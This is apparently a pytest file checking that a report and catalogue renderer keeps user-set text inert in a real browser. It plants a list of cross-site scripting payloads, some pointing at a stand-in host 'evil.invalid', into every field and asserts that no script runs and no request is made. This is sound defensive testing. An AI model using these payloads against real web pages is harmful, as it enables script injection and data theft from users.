"""Scripts planted in every text that somebody may set: in a real browser none runs, and nothing is asked of a network.

The content security policy is taken out of the pages before they are opened: what is held here is that texts stay text.
"""

from datetime import UTC, date, datetime
from typing import Any

import pytest

from workbench.present.blocks import Block, ChecksBlock, FigureBlock, ProseBlock, TableBlock, TermsBlock
from workbench.present.result import Check, Column, Fact, StudyResult, Table, Verdict
from workbench.refusal import Refused
from workbench.reports.catalogue import Entry, RunLine, VersionLine, render_catalogue
from workbench.reports.harvest import Section
from workbench.reports.page import CONTENT_POLICY, Page, render_report
from workbench.reports.release.safety import find_unsafe

OUTSIDE = "https://evil.invalid"
PAYLOADS = [
    "<script>alert(1)</script>",
    f"<script src='{OUTSIDE}/a.js'></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src='{OUTSIDE}/a.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "</title></style></textarea><script>alert(1)</script>",
    "</td></table></main><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '" autofocus tabindex=1 onfocus=alert(1) x="',
    "' autofocus tabindex=1 onfocus=alert(1) x='",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    f"<link rel=stylesheet href={OUTSIDE}/a.css><style>@import '{OUTSIDE}/b.css';</style>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<base href={OUTSIDE}/><form action=x><input autofocus onfocus=alert(1)></form>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>{% endraw %}",
    "[see](javascript:alert(1))",
    "[see](JaVa&#x09;Script:alert(1))",
    "[see](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[see]({OUTSIDE}) ![see]({OUTSIDE}/a.png) <{OUTSIDE}>",
    f'[see](#x "x\\" onmouseover=alert(1)") [a]: {OUTSIDE}',
    f"![x](x'onerror=alert(1)) ![y][z]\n\n[z]: {OUTSIDE}/a.png",
]


def table(text: str) -> Table:
    return Table(
        id="segments",
        caption=text,
        columns=[
            Column(name="a", title=text, kind="label"),
            Column(name="b", title=text, kind="estimate", unit=text),
        ],
        rows=[[text, 3.0], ["other", 4.0]],
        groups="none",
        note=text,
    )


def report(text: str) -> str:
    fact, check = Fact(label=text, text=text), Check(name=text, passed=True, detail=text)
    verdict = Verdict(decision="adopt", headline=text, reasons=[text], facts=[fact])
    result = StudyResult(
        study="ab_test",
        name=text,
        as_of="2026-11-23",
        verdict=verdict,
        metrics=[],
        checks=[check],
        tables=[table(text)],
    )
    blocks: tuple[str | Block, ...] = (
        text,
        f"## {text}\n\n- {text}\n\n> {text}\n\n| {text} | b |\n|---|---|\n| 1 | {text} |",
        ProseBlock(text=text),
        TermsBlock(terms=[fact]),
        ChecksBlock(checks=[check]),
        TableBlock(table=table(text)),
        FigureBlock(
            id="effect",
            title=text,
            alt=text,
            caption=text,
            source=["segments"],
            wide='<svg viewBox="0 0 9 9"></svg>',
            narrow='<svg viewBox="0 0 9 9"></svg>',
        ),
    )
    return render_report(
        Page(
            title=text,
            eyebrow=text,
            question=text,
            as_of="2026-11-23",
            data_until=None,
            valid_until=None,
            audience=(text,),
            owner=text,
            version=text,
            result=result,
            sections=(Section(text, 2, "section", blocks),),
            provenance=((text, text),),
        )
    )


def catalogue(text: str) -> str:
    now = datetime(2026, 11, 23, 7, 0, tzinfo=UTC)
    version = VersionLine("v1", date(2026, 11, 20), now, "adopt", text, "ab_test/a/v1/report.html")
    entry = Entry(
        "ab_test", text, text, text, (text,), text, (version,), date(2026, 11, 20), RunLine("failed", text, now)
    )
    return render_catalogue([entry], now)


@pytest.fixture
def watched(browser, tmp_path):
    """Opens a page, and tells what it did by itself and when what can be pressed is pressed."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(5_000)
    did: list[str] = []
    page.on("dialog", lambda dialog: (did.append("dialog"), dialog.dismiss()))
    page.on("request", lambda request: did.append(request.url) if not request.url.startswith("file:") else None)
    page.on(
        "framenavigated", lambda frame: did.append(frame.url) if not frame.url.startswith("file:") else None
    )

    def open_page(html: str) -> tuple[list[str], Any]:
        file = tmp_path / "page.html"
        file.write_text(html, encoding="utf-8")
        did.clear()
        page.goto(file.as_uri())
        for event in ("mouseover", "focus", "click"):
            page.evaluate(
                "event => document.querySelectorAll('main *').forEach(each => each.dispatchEvent(new Event(event)))",
                event,
            )
        return did, page

    yield open_page
    context.close()


HANDLERS = """() => [...document.querySelectorAll('*')].flatMap(each => [...each.attributes]
    .filter(it => /^on/i.test(it.name) || /^\\s*(javascript|data|https?|\\/\\/)/i.test(it.value)
        && ['href', 'src', 'action', 'srcdoc'].includes(it.name)).map(it => each.tagName + ' ' + it.name))"""
ACTIVE = "script, iframe, object, embed, form, base, link, meta[http-equiv=refresh], animate, set"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_planted_in_a_report_stays_text(watched, payload):
    html = report(payload)
    assert CONTENT_POLICY in html
    did, page = watched(html.replace("Content-Security-Policy", "X-No-Policy"))
    assert did == []
    assert page.evaluate(HANDLERS) == []
    assert page.locator(ACTIVE).count() == 0
    # The check takes the word for the deed: in an attribute, even of plain text, it may not stand.
    assert list(find_unsafe(html)) == [] or "javascript:" in payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_planted_in_the_catalogue_stays_text(watched, payload):
    clean = catalogue("text")
    did, page = watched(catalogue(payload).replace("Content-Security-Policy", "X-No-Policy"))
    assert did == []
    assert page.evaluate(HANDLERS) == []
    # Its one script, for search, and its form are its own.
    for tag in ACTIVE.split(", "):
        assert page.locator(tag).count() == clean.count(f"<{tag}")


@pytest.mark.parametrize("payload", [each for each in PAYLOADS if "<" in each])
def test_a_figure_that_holds_more_than_lines_and_text_is_refused(payload):
    svg = f'<svg viewBox="0 0 9 9"><text>{payload}</text></svg>'
    figure = FigureBlock(id="a", title="a", alt="a", caption="", source=["segments"], wide=svg, narrow=svg)
    with pytest.raises(Refused) as refused:
        render_report_of(figure)
    assert "alert" not in str(refused.value)


def render_report_of(block: Block) -> str:
    section = Section("a", 2, "a", (block,))
    result = StudyResult(
        study="ab_test",
        as_of="2026-11-23",
        verdict=Verdict(decision="describe", headline="a", reasons=["a"]),
        metrics=[],
        checks=[],
        tables=[table("a")],
    )
    return render_report(Page("a", "a", "2026-11-23", None, None, (), "a", "v", result, (section,), ()))
